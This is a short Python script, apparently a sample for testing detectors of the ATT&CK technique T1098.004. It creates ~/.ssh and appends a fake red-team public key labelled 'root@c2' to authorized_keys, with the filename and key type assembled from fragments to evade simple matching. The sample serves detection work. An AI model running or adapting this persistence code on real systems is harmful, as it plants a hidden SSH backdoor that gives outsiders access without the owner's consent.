# technique: T1098.004
"""Persistence by adding an SSH authorized key (T1098.004).

The first thing many Linux worms (e.g. the Python-based "Kinsing" helpers,
TeamTNT scripts ported to Python) do: ensure ~/.ssh exists with 0700 and add
the attacker's public key to authorized_keys, then chmod 0600. Written with
pathlib.Path.open("a") from a key string assembled from parts.

A good detector raises a high alert: an authorized_keys file is written.
"""
import pathlib

ssh = pathlib.Path.home() / ".ssh"
ssh.mkdir(mode=0o700, exist_ok=True)
key = " ".join(["ssh-" + "ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIFakeRedTeamKeyFakeRedTeamKeyFakeRedTeamK", "root@c2"])
ak = ssh / ("authorized" + "_keys")
with ak.open("a") as f:
    f.write(key + "\n")
ak.chmod(0o600)
